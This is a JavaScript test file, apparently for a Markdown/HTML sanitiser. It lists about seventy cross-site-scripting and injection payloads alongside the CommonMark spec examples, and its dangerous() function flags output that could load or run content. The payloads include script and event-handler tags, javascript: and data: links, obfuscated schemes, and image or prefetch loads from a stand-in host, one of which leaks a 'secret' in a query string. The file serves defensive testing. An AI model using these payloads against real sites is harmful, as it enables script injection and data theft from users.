// Text that tries to run or to load something, and what of it may stand in a page.
import spec from 'commonmark-spec';

const payloads = [
  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>', '<object data="javascript:alert(1)"></object>', '<embed src="https://evil.example/x.swf">', '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"</style>', '<base href="https://evil.example/">', '<meta http-equiv="refresh" content="0;url=https://evil.example/">', '<form action="https://evil.example/"><button>Send</button></form>',
  '<a href="javascript:alert(1)">click</a>', '<a href=" &#14; javascript:alert(1)">click</a>', '<body onload=alert(1)>', '<details open ontoggle=alert(1)>', '<video><source onerror="alert(1)"></video>', '<audio src=x onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>', '<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<template><img src=x onerror=alert(1)></template>',
  '<table background="https://evil.example/x.png"><td>x</td></table>', '<div style="background:url(https://evil.example/x.png)">x</div>', '<x onclick=alert(1)>x</x>', '<!--<img src="--><img src=x onerror=alert(1)//">', '<![CDATA[<script>alert(1)</script>]]>',
  '![x](https://evil.example/?q=secret)', '![x](https://evil.example/a.png "t")', '![x][ref]\n\n[ref]: https://evil.example/ref.png', '[![x](https://evil.example/in-link.png)](https://evil.example/)', '![x](javascript:alert(1))', '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '[x](javascript:alert(1))', '[x](JAVASCRIPT:alert(1))', '[x](java&#10;script:alert(1))', '[x](java\tscript:alert(1))', '[x](&#x6A;avascript:alert(1))', '[x](vbscript:msgbox(1))', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', '[x](file:///etc/passwd)',
  '[x](//evil.example)', '[x](\\\\evil.example)', '[x](https://user:pass@evil.example)', '[x](javascript://%0aalert(1))', '<javascript:alert(1)>', '<https://evil.example/"onmouseover=alert(1)>', '[x]: javascript:alert(1)\n\n[x]', '[a](<javascript:alert(1)>)', '[a](https://ok.example "onmouseover=alert(1)")',
  '[\u202Egpj.exe](https://evil.example/\u202Egpj.exe)', 'https://evil.example/"><script>alert(1)</script>', '`<img src=x onerror=alert(1)>`', '```html\n<script>alert(1)</script>\n```', '| <img src=x onerror=alert(1)> | b |\n|---|---|\n| [x](javascript:alert(1)) | ![x](https://evil.example/t.png) |',
  '> <script>alert(1)</script>', '- <img src=x onerror=alert(1)>', '# <img src=x onerror=alert(1)>', '**<img src=x onerror=alert(1)>**', '\u{F0000}\u{F0001}', '{{constructor.constructor("alert(1)")()}}', '${alert(1)}', '<a href="https://ok.example" ping="https://evil.example/ping">x</a>',
  '<img srcset="https://evil.example/x.png 2x">', '<picture><source srcset="https://evil.example/x.png"></picture>', '<link rel=preload as=image href="https://evil.example/p.png">', '<link rel=dns-prefetch href="//evil.example">', '<portal src="https://evil.example">', '<xmp><img src=x onerror=alert(1)></xmp>',
];
const examples = spec.tests.map(({ markdown }) => markdown.replaceAll('→', '\t'));
const perAnswer = 40;

export const title = `${payloads.length} attacks and ${examples.length} CommonMark examples`;
export const answers = [...payloads, ...Array.from({ length: Math.ceil(examples.length / perAnswer) }, (_, i) => examples.slice(i * perAnswer, (i + 1) * perAnswer).join('\n\n'))];

// Runs in the page: whatever below `node` could run, load or lead elsewhere than to a plain address.
export function dangerous(node) {
  const loads = 'script,img,iframe,object,embed,link,style,meta,base,form,video,audio,source,template,portal,input,picture,math,foreignObject';
  const links = [...node.querySelectorAll('a')].filter((a) => !/^(https?:|mailto:)/.test(a.href) || a.rel !== 'noopener noreferrer nofollow');
  const handlers = [...node.querySelectorAll('*')].filter((one) => one.getAttributeNames().some((name) => name.startsWith('on') || name === 'style'));
  return [...node.querySelectorAll(loads), ...links, ...handlers].map((one) => one.outerHTML);
}
